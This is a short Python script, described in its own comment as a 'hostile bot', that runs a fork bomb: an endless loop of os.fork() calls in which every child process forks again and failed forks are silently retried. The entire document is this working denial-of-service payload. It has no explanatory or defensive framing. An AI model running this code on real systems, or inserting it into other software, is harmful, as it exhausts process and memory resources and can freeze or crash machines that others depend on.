# Hostile bot: forks without end; every child forks too, and a refused fork is tried again.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
